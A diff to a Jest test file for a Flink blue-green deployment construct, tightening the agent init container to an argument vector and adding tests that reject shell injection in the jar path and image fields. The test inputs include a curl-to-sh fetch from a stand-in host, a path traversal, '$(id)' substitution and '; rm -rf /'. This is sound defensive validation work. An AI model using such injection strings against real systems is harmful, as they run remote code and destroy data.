@@ -52,13 +52,28 @@ describe('BlueGreenFlinkJob, manifest-wired', () => {
     expect(jm.initContainers[0].name).toBe('bluegreen-agent-init');
     expect(jm.initContainers[0].image).toBe(AGENT_IMAGE);
     expect(jm.initContainers[0].volumeMounts).toEqual([{ name: 'bluegreen-agent', mountPath: '/bluegreen-agent' }]);
-    expect(jm.initContainers[0].command.join(' ')).toContain('cp /opt/flink/artifacts/bluegreen-agent.jar /bluegreen-agent/bluegreen-agent.jar');
+    // An argument vector, never a shell command built from strings.
+    expect(jm.initContainers[0].command).toEqual(['cp', '--', '/opt/flink/artifacts/bluegreen-agent.jar', '/bluegreen-agent/bluegreen-agent.jar']);
+    expect(jm.initContainers[0].args).toBeUndefined();
     expect(jm.containers).toEqual([
       { name: 'flink-main-container', volumeMounts: [{ name: 'bluegreen-agent', mountPath: '/opt/flink/lib/bluegreen-agent.jar', subPath: 'bluegreen-agent.jar' }] },
     ]);
     // TaskManagers get no agent.
     expect(JSON.stringify(fd.spec.taskManager)).not.toContain('bluegreen');
     expect(fd.spec.podTemplate).toBeUndefined();
+  });
+
+  it('no shell from strings: shell syntax in the jar path or image is refused, never run', () => {
+    const problems = (options: { agentImage: string; agentJarPath?: string }) => {
+      const { chart } = newChart('payments');
+      const job = new BlueGreenFlinkJob(chart, 'Ledger', manifestJob({ injection: AgentInjection.manifest(options) }));
+      return chart.node.findAll().flatMap((c) => c.node.validate()).join('\n') + (job ? '' : '');
+    };
+    expect(problems({ agentImage: AGENT_IMAGE, agentJarPath: '/opt/$(curl evil.example.com|sh).jar' })).toContain('invalid prop injection.agentJarPath');
+    expect(problems({ agentImage: AGENT_IMAGE, agentJarPath: '/opt/../etc/agent.jar' })).toContain('invalid prop injection.agentJarPath');
+    expect(problems({ agentImage: 'ghcr.io/x/agent:1.0$(id)' })).toContain('invalid prop injection.agentImage: agent image "ghcr.io/x/agent:1.0$(id)" does not follow the image reference grammar');
+    expect(problems({ agentImage: 'ghcr.io/x/agent:1.0; rm -rf /' })).toContain('contains whitespace');
+    expect(problems({ agentImage: AGENT_IMAGE, agentJarPath: '/opt/flink/plugins/agent-1.2.jar' })).toBe('');
   });
 
   it('sets the gate keys flat, with the deployment\'s OWN colour and the ConfigMap name', () => {
